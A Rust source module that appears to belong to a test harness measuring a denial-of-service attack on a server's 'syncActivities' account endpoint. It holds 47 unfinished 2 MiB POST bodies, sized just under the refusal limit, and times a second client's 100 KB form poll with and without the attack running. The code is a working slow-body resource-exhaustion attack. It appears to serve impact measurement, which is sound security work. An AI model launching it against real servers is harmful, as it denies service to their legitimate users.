//! Bodies that do not end, of somebody without a session.

use super::attack::Attack;
use super::neighbour::SUCCESS;
use super::{Row, Scene};
use crate::Outcome;

const BODIES: usize = 47;

/// Just short of what is refused.
const BODY_BYTES: usize = 2 << 20;

/// What the neighbour sends.
const FORM_BYTES: usize = 100_000;

pub(crate) fn rows(scene: &Scene<'_>) -> Outcome<Vec<Row>> {
    let form = format!(
        "userSessionId={}&syncActivityTimeFrom=2090-01-01T00:00:00Z{}",
        scene.neighbour.session,
        "&".repeat(FORM_BYTES)
    );
    let poll = post(form.len()) + &form;
    let without = scene.neighbour.asks(&poll, SUCCESS)?;
    let begun = "&".repeat(BODY_BYTES - 1);
    let body = post(BODY_BYTES) + &begun;
    let attack = Attack::start(scene.server, BODIES, body.into_bytes())?;
    let with = scene.neighbour.asks(&poll, SUCCESS)?;
    drop(attack);
    Ok(vec![Row {
        attack: "47 unfinished bodies of 2 MiB",
        neighbour: "polls with a form of 100 KB",
        without,
        with,
    }])
}

/// The head of a request with a form of this length.
fn post(length: usize) -> String {
    format!(
        "POST /neonws/services/api/account/syncActivities HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n"
    )
}
